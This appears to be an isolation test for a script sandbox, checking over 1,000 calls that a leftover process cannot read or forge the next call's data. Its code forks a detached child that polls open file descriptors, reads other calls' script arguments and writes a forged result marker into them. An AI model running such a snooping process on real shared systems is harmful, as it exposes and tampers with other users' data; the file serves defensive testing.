"""
id: P03
title: a child that is left reads what is sent to the next call, 1,000 times
expected: no call's context is read by another
runs:
- calls: 1000
  with: {timeout: 20s}
  expect:
    own: 1000
    stolen: 0
    call completed: 1000
  show: [own, stolen, call completed]
- control: a process that is used again, for 20 calls
  calls: 20
  reused: yes
  with: {timeout: 10s}
  expect:
    call completed: 1..19
  show: [call completed, stolen]
"""
import select

demisto.results({'+own': 1, '+stolen': 0})
STOLEN = b'{"type": "result", "results": [{"Type": 1, "ContentsFormat": "json", "Contents": "{\\"+stolen\\": 1}"}]}\n'


def steal():
    """Reads whatever can be read, and says so wherever it can be said."""
    descriptors = [fd for fd in range(256) if fd not in (1, 2)]
    while True:
        for fd in descriptors:
            try:
                if select.select([fd], [], [], 0)[0] and os.path.exists('/proc/self/fd/%d' % fd):
                    text = os.read(fd, 1 << 20)
                    if b'"script"' in text or b'"args"' in text:
                        for to in descriptors:
                            try:
                                os.write(to, STOLEN)
                            except OSError:
                                pass
            except OSError:
                pass


if os.fork() == 0:
    os.setsid()
    steal()
